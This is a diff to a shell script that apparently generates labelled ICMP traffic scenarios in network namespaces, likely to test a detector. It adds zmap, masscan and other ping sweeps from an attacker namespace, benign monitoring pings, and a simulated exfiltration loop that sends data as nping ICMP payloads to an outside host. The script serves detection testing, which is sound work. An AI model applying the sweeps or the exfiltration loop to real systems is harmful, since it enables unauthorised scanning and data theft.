@@ -12,6 +12,17 @@
 #   sweep_nmap_data     nmap -sn -PE with 40 random bytes in every probe
 #   ping_big_external   ping -s 1400, 40 times, to an outside host
 #   fping_fast_two      fping -c 200 -p 20 to two servers
+#   sweep_zmap          zmap's ICMP echo scan of 10.78.0.32/27 (random order, zmap's own probes)
+#   sweep_masscan       masscan --ping over 10.78.0.32/27 (random order)
+#   sweep_oping         oping, one probe to each of 10.78.0.32-63 in one run (liboping payload)
+#   sweep_busybox       busybox ping -c 1 to each of 10.78.0.32-63 in a shell loop
+#   sweep_icmpush_mask  icmpush address-mask requests, one per target, 10.78.0.32-63
+#   ping_inetutils      ordinary troubleshooting with GNU inetutils ping (echo, then timestamp)
+#   ping_busybox        ordinary troubleshooting with busybox ping
+#   monitoring_check_icmp  Nagios/monitoring-plugins check_icmp of 6 servers every 5 s, 50 s
+#   monitoring_oping    oping to 8 servers every second for 45 s
+#   tracepath_out       tracepath (UDP probes, rising TTL) to an outside host
+#   exfil_nping_data    a file sent out as nping --icmp --data payloads, 500 bytes a probe
 set -uo pipefail
 sc=$1 out=$2
 x() { ip netns exec "$@"; }
@@ -35,6 +46,37 @@ case $sc in
     x ih_ws2 timeout 30 ping -q -c 40 -i 0.2 -s 1400 198.51.100.23 >/dev/null 2>&1 ;;
   fping_fast_two)
     x ih_ws2 timeout 30 fping -q -c 200 -p 20 10.78.0.40 10.78.0.50 >/dev/null 2>&1 ;;
+  sweep_zmap)
+    x ih_atk timeout 60 zmap -q -M icmp_echoscan -i eth0 -S 10.77.0.10 -G 02:00:00:00:00:05 \
+      -b /dev/null -r 100 -c 3 -o /dev/null 10.78.0.32/27 >/dev/null 2>&1 ;;
+  sweep_masscan)
+    x ih_atk timeout 60 masscan --ping 10.78.0.32/27 --rate 100 -e eth0 --adapter-ip 10.77.0.10 \
+      --router-mac 02:00:00:00:00:05 --wait 2 >/dev/null 2>&1 ;;
+  sweep_oping)
+    x ih_atk timeout 30 oping -c 1 $(seq -f 10.78.0.%g 32 63) >/dev/null 2>&1 ;;
+  sweep_busybox)
+    for i in $(seq 32 63); do x ih_atk timeout 2 busybox ping -c 1 -W 1 10.78.0.$i >/dev/null 2>&1; done ;;
+  sweep_icmpush_mask)
+    for i in $(seq 32 63); do x ih_atk timeout 2 icmpush -mask -to 1 10.78.0.$i >/dev/null 2>&1; done ;;
+  ping_inetutils)
+    x ih_ws2 timeout 20 /opt/xtools/inet/bin/ping -c 5 10.78.0.40 >/dev/null 2>&1
+    x ih_ws2 timeout 20 /opt/xtools/inet/bin/ping -c 4 203.0.113.7 >/dev/null 2>&1
+    x ih_ws2 timeout 20 /opt/xtools/inet/bin/ping --timestamp -c 3 10.78.0.40 >/dev/null 2>&1 ;;
+  ping_busybox)
+    x ih_ws2 timeout 20 busybox ping -c 6 10.78.0.40 >/dev/null 2>&1
+    x ih_ws2 timeout 20 busybox ping -c 4 -s 100 198.51.100.23 >/dev/null 2>&1 ;;
+  monitoring_check_icmp)
+    for r in $(seq 10); do
+      x ih_mon timeout 4 /opt/xtools/mp/usr/lib/nagios/plugins/check_icmp -H 10.78.0.33 -H 10.78.0.40 -H 10.78.0.50 -H 10.78.0.61 -H 10.78.0.77 -H 10.78.0.88 >/dev/null 2>&1
+      sleep 4
+    done ;;
+  monitoring_oping)
+    x ih_mon timeout 46 oping -i 1 -c 45 10.78.0.33 10.78.0.34 10.78.0.40 10.78.0.50 10.78.0.61 10.78.0.70 10.78.0.80 10.78.0.93 >/dev/null 2>&1 ;;
+  tracepath_out)
+    x ih_ws2 timeout 30 tracepath -n -m 5 203.0.113.7 >/dev/null 2>&1 ;;
+  exfil_nping_data)
+    head -c 30000 /dev/urandom | base64 -w 500 | head -n 60 > /tmp/ih_chunks
+    while read -r l; do x ih_atk timeout 2 nping --icmp -c 1 -q --data-string "$l" 203.0.113.7 >/dev/null 2>&1; done < /tmp/ih_chunks ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
